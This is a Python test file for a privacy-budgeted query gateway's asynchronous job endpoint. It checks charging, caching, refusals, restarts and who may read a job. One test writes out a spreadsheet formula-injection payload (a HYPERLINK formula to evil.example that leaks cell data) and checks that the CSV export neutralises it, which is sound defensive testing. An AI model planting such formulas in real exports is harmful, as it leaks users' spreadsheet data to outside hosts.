"""Queries as jobs (``POST /v1/queries/jobs``, docs/researcher.md): 202 and a status URL, the
synchronous answer's shape, one charge across a restart and a lost lease, free refusals, the
release cache, and who may read a job."""

from __future__ import annotations

import asyncio
import contextlib
import secrets
from decimal import Decimal
from typing import Any

import pytest

from enclave.audit.log import AuditFilter
from enclave.audit.record import AuditDraft
from enclave.jobs.job import JobLost
from enclave.ledger.charge import Charge
from enclave.ledger.grid import Amount
from enclave.models import utcnow
from enclave.store import jobs
from enclave.web.keys import runner_key
from tests.store.conftest import temporary_database
from tests.web.test_openapi import check, fetch_doc

SQL = "SELECT region, COUNT(*) AS n, AVG(cost) AS mean_cost FROM visits GROUP BY region"
JOBS = {"lease_s": 6, "poll_s": 0.5, "timeout_s": 600}


async def _submit(gw: Any, sql: str = SQL, sub: str = "alice", **over: Any) -> Any:
    body: dict[str, Any] = {"dataset": "visits", "sql": sql, "epsilon": 0.5, **over}
    return await gw.client.post("/v1/queries/jobs", json=body, headers=gw.auth(sub))


async def _wait(gw: Any, url: str) -> Any:
    """Poll as an auditor (who sees every job) until the job ends."""
    for _ in range(600):
        job = await (await gw.client.get(url, headers=gw.auth("carol", ("auditor",)))).json()
        if job["state"] in ("done", "failed"):
            return job
        await asyncio.sleep(0.1)
    raise AssertionError(f"job not ended in time: {job}")


async def _records(gw: Any, action: str) -> list[Any]:
    records: list[Any] = await gw.services.store.audit_events(AuditFilter(action=action), 0, 100)
    return records


async def test_a_query_job_answers_202_then_the_synchronous_answer_charged_once(
    make_gateway: Any,
) -> None:
    gw = await make_gateway(jobs=JOBS)
    lic = await gw.licence()
    resp = await _submit(gw)
    assert resp.status == 202, await resp.text()
    job = await resp.json()
    doc = await fetch_doc(gw)
    check(doc, "post", "/v1/queries/jobs", 202, job)
    assert resp.headers["Location"] == job["status_url"] == f"/v1/jobs/{job['id']}"
    assert job["kind"] == "query" and job["state"] in ("queued", "running", "done")
    assert job["request"]["sql"] == SQL and job["request"]["epsilon"] == "0.5"
    done = await _wait(gw, job["status_url"])
    assert done["state"] == "done", done
    check(doc, "get", "/v1/jobs/{id}", 200, done)
    assert done["attempts"] == 1 and done["result"]["epsilon"] == 0.5
    assert done["result"]["files"]["json"] == f"{job['status_url']}/result?format=json"
    got = await gw.client.get(done["result"]["files"]["json"], headers=gw.auth())
    assert got.status == 200, await got.text()
    body = await got.json()
    check(doc, "post", "/v1/queries", 200, body)
    sync = await (await gw.query(SQL, epsilon=0.25)).json()  # another epsilon: not cached
    assert set(body) == set(sync)
    assert body["columns"] == sync["columns"] == ["region", "n", "mean_cost"]
    assert body["epsilon_spent"] == 0.5 and body["cached"] is False
    assert body["budget"]["epsilon_remaining"] == 4.5 and body["epsilon_source"] == "request"
    release = (await _records(gw, "query"))[0]
    assert body["audit_seq"] == release.seq and release.epsilon == 0.5
    assert release.detail["job_id"] == job["id"] and release.outcome == "ok"
    assert await gw.services.store.spent(lic.id, "visits", None) == Amount.charge("0.75")
    [submitted] = await _records(gw, "query.submit")
    assert submitted.epsilon == 0.0 and submitted.detail["job_id"] == job["id"]
    # the answer's budget and audit_seq are written after the charge: a gateway stopping
    # in between leaves them null, the rest of the answer as it was charged
    row = jobs.jobs_of(await gw.services.store.job_read(jobs.get(job["id"])))[0]
    assert row.result is not None and row.result["answer"] == body
    early = {k: v for k, v in row.result.items() if k != "answer"}
    await gw.services.store.job_write(jobs.annotate(job["id"], early))
    bare = await (await gw.client.get(done["result"]["files"]["json"], headers=gw.auth())).json()
    assert bare == {**body, "budget": None, "audit_seq": None}
    csv = await gw.client.get(f"{job['status_url']}/result?format=csv", headers=gw.auth())
    lines = (await csv.text()).splitlines()
    assert lines[0] == "region,n,mean_cost" and len(lines) == 1 + len(body["rows"])
    # a repeat is answered from the release cache at once, free: no job, the same rows
    again = await _submit(gw)
    assert again.status == 200 and "Location" not in again.headers
    repeat = await again.json()
    check(doc, "post", "/v1/queries/jobs", 200, repeat)
    assert repeat["cached"] is True and repeat["rows"] == body["rows"]
    assert repeat["release_of"] == body["query_id"] and repeat["epsilon_spent"] == 0.0
    sync_repeat = await (await gw.query(SQL, epsilon=0.5)).json()  # one cache for both routes
    assert sync_repeat["cached"] is True and sync_repeat["rows"] == body["rows"]
    assert await gw.services.store.spent(lic.id, "visits", None) == Amount.charge("0.75")
    metrics = await (await gw.client.get("/metrics")).text()
    assert 'enclave_jobs_total{kind="query",state="done"} 1.0' in metrics


async def test_a_job_csv_cannot_carry_a_spreadsheet_formula(make_gateway: Any) -> None:
    """An alias (or a category value) that a spreadsheet would run as a formula is written
    with a leading apostrophe, as in the audit export; numbers are written as they are."""
    gw = await make_gateway(jobs=JOBS)
    await gw.licence()
    formula = '=HYPERLINK("http://evil.example/?"&A2,"ok")'
    quoted = formula.replace('"', '""')
    aliases = f'COUNT(*) AS "{quoted}", SUM(cost) AS "@total"'
    sql = f"SELECT region, {aliases} FROM visits GROUP BY region"  # noqa: S608
    resp = await _submit(gw, sql)
    assert resp.status == 202, await resp.text()
    done = await _wait(gw, (await resp.json())["status_url"])
    assert done["state"] == "done", done
    got = await gw.client.get(done["result"]["files"]["csv"], headers=gw.auth())
    header, *rows = (await got.text()).splitlines()
    assert header == "region,\"'" + quoted + "\",'@total"
    for row in rows:  # the counts and sums are numbers: no apostrophe
        float(row.split(",")[1])
        float(row.split(",")[2])


async def test_a_refused_query_job_costs_nothing_and_answers_at_once(make_gateway: Any) -> None:
    gw = await make_gateway(jobs=JOBS)
    lic = await gw.licence()
    typo = await _submit(gw, "SELECT regoin, COUNT(*) FROM visits GROUP BY regoin")
    assert typo.status == 400 and "did you mean region" in (await typo.json())["detail"]
    bad = await gw.client.post(
        "/v1/queries/jobs", json={"dataset": "visits", "sql": SQL, "epsilon": -1, "x": 1},
        headers=gw.auth(),
    )  # fmt: skip
    assert bad.status == 400 and len((await bad.json())["problems"]) == 2
    over = await _submit(gw, epsilon=1.0, max_share=0.1)
    assert over.status == 409 and (await over.json())["type"].endswith("spend-needs-confirmation")
    unseen = await _submit(gw, sub="mallory")
    assert unseen.status == 404
    admin = await gw.client.post(
        "/v1/queries/jobs", json={"dataset": "visits", "sql": SQL},
        headers=gw.auth("carol", roles=("admin",)),
    )  # fmt: skip
    assert admin.status == 403
    for _ in range(9):  # spend the budget down to 0.5 (synchronously, 0.5 each)
        sql = f"SELECT COUNT(*) AS n{_} FROM visits"  # noqa: S608
        assert (await gw.query(sql)).status == 200
    broke = await _submit(gw, epsilon=1.0)
    assert broke.status == 403 and (await broke.json())["type"].endswith("budget-exhausted")
    assert await gw.services.store.spent(lic.id, "visits", None) == Amount.charge("4.5")
    refusals = await _records(gw, "query.submit")
    assert [r.outcome for r in refusals] == ["denied"] * len(refusals) and len(refusals) >= 4


async def test_a_query_job_is_visible_to_its_owner_admins_and_auditors_only(
    make_gateway: Any,
) -> None:
    gw = await make_gateway(jobs=JOBS)
    await gw.licence()
    await gw.licence(subject="bob")
    job = await (await _submit(gw)).json()
    await _wait(gw, job["status_url"])
    url = job["status_url"]
    for path in (url, url + "/result?format=json"):
        assert (await gw.client.get(path, headers=gw.auth("bob"))).status == 404
        for role in ("admin", "auditor"):
            seen = await gw.client.get(path, headers=gw.auth("carol", roles=(role,)))
            assert seen.status == 200, await seen.text()
    wrong = await gw.client.get(url + "/result?format=parquet", headers=gw.auth())
    assert wrong.status == 400


async def test_a_failure_after_the_data_is_read_is_charged_once(make_gateway: Any) -> None:
    """A job's run is killed at ``jobs.timeout_s``: charged, audited ``error`` and failed
    with the synchronous time-out's fixed problem, once; ``jobs.timeout_s`` (not the server's
    ``query_timeout_s``) is the limit of a job."""
    gw = await make_gateway(jobs={**JOBS, "timeout_s": 1e-6}, server={"query_timeout_s": 600})
    lic = await gw.licence()
    job = await (await _submit(gw)).json()
    done = await _wait(gw, job["status_url"])
    assert done["state"] == "failed" and done["attempts"] == 1
    problem = done["problem"]
    assert problem["type"].endswith("query-timeout") and problem["charged"] is True
    assert problem["detail"] == "the query ran longer than the time limit; its cost was charged"
    assert problem["epsilon"] == "0.5"
    assert await gw.services.store.spent(lic.id, "visits", None) == Amount.charge("0.5")
    records = await _records(gw, "query")
    assert [(r.outcome, r.epsilon) for r in records] == [("error", 0.5)]
    await asyncio.sleep(JOBS["lease_s"] / 2)  # nothing runs it again
    assert await gw.services.store.spent(lic.id, "visits", None) == Amount.charge("0.5")
    sync = await gw.query(SQL)  # the server's limit is not the job's
    assert sync.status == 200


@pytest.mark.slow
@pytest.mark.parametrize(
    "backend", ["sqlite", pytest.param("postgres", marks=pytest.mark.postgres)]
)
async def test_a_job_survives_a_restart_and_a_lost_lease_charged_once(
    make_gateway: Any, backend: str
) -> None:
    """A gateway accepts the job and stops; a runner claims it and dies (its lease lapses);
    the next gateway claims it again, runs it and charges it once; the dead runner's end
    can no longer be written."""
    async with contextlib.AsyncExitStack() as stack:
        url = "sqlite:///state/enclave.db"
        if backend == "postgres":
            url = await stack.enter_async_context(temporary_database())
        first = await make_gateway(jobs=JOBS, store_url=url)
        lic = await first.licence()
        await first.app[runner_key].stop()  # accepts, runs nothing
        resp = await _submit(first)
        assert resp.status == 202, await resp.text()
        status = (await resp.json())["status_url"]
        store = first.services.store
        rows = await store.job_write(jobs.claim(secrets.token_hex(8), utcnow(), 1.0, ("query",)))
        [dead] = jobs.jobs_of(rows)  # a runner that claimed the job, then died
        await first.client.close()
        second = await make_gateway(jobs=JOBS, store_url=url)  # same deployment and store
        job = await _wait(second, status)
        assert job["state"] == "done" and job["attempts"] == 2, job
        store = second.services.store
        assert await store.spent(lic.id, "visits", None) == Amount.charge("0.5")
        draft = AuditDraft(action="query", outcome="ok", actor="alice", licence_id=lic.id)
        with pytest.raises(JobLost):  # the dead runner's charge and end: nothing written
            await store.debit(
                draft,
                Charge(lic.id, "visits", Amount.charge("0.5"), Amount.charge("5"), None),
                job=jobs.finish(dead, "done", {"release": {}}, utcnow()),
            )
        assert await store.spent(lic.id, "visits", None) == Amount.charge("0.5")
        records = await _records(second, "query")
        assert [(r.outcome, r.epsilon) for r in records] == [("ok", 0.5)]


async def test_what_changed_before_the_run_is_refused_free_or_answered_from_the_cache(
    make_gateway: Any,
) -> None:
    """Queued while no runner runs: one job's query is released synchronously meanwhile (the
    job answers from the cache, free); another's licence is suspended (failed, no charge)."""
    gw = await make_gateway(jobs=JOBS)
    lic = await gw.licence()
    bob = await gw.licence(subject="bob")
    runner = gw.app[runner_key]
    await runner.stop()
    twin = await (await _submit(gw)).json()
    refused = await (await _submit(gw, sub="bob")).json()
    assert (await gw.query(SQL)).status == 200  # the same query, released synchronously
    await gw.services.store.update_licence(
        bob.id,
        {"status": "suspended"},
        AuditDraft(action="licence.update", outcome="ok", actor="steward", reason="test"),
    )
    runner.start()
    cached = await _wait(gw, twin["status_url"])
    assert cached["state"] == "done" and cached["result"]["cached"] is True
    assert cached["result"]["epsilon"] == 0.0
    failed = await _wait(gw, refused["status_url"])
    assert failed["state"] == "failed" and failed["problem"]["charged"] is False
    assert failed["problem"]["type"].endswith("licence-suspended")
    assert await gw.services.store.spent(lic.id, "visits", None) == Amount.charge("0.5")
    assert await gw.services.store.spent(bob.id, "visits", None) == Amount()
    records = [(r.actor, r.outcome, r.epsilon, r.cached) for r in await _records(gw, "query")]
    assert sorted(records) == [
        ("alice", "ok", 0.0, True),
        ("alice", "ok", 0.5, False),
        ("bob", "denied", 0.0, False),
    ]


async def test_a_job_whose_budget_is_held_when_it_runs_fails_unread_and_free(
    make_gateway: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Another query of the licence, in flight, holds all but 0.2 of the budget (its
    reservation) when the job reaches the data: the job's own reservation is refused, so it
    ends ``failed``, uncharged, and the engine never ran."""
    gw = await make_gateway(jobs=JOBS)
    lic = await gw.licence()
    svc = gw.services
    runs: list[Any] = []
    real_run = svc.warehouse.run

    async def counted(compiled: Any, timeout_s: float) -> Any:
        runs.append(compiled)
        return await real_run(compiled, timeout_s)

    monkeypatch.setattr(svc.warehouse, "run", counted)
    tier = await svc.registry.tier("standard")
    limit = Amount.charge(tier.budget_epsilon)
    in_flight = Charge(
        lic.id, "visits", Amount.charge(tier.budget_epsilon - Decimal("0.2")), limit, None
    )
    await svc.store.reserve(in_flight, 600)
    resp = await _submit(gw)  # the free pre-check reads the ledger: 0.5 fits
    assert resp.status == 202, await resp.text()
    done = await _wait(gw, (await resp.json())["status_url"])
    assert done["state"] == "failed", done
    assert done["problem"]["type"].endswith("/budget-exhausted") and not done["problem"]["charged"]
    assert runs == []
    assert await svc.store.spent(lic.id, "visits", None) == Amount()
    [refused] = await _records(gw, "query")
    assert refused.outcome == "denied"
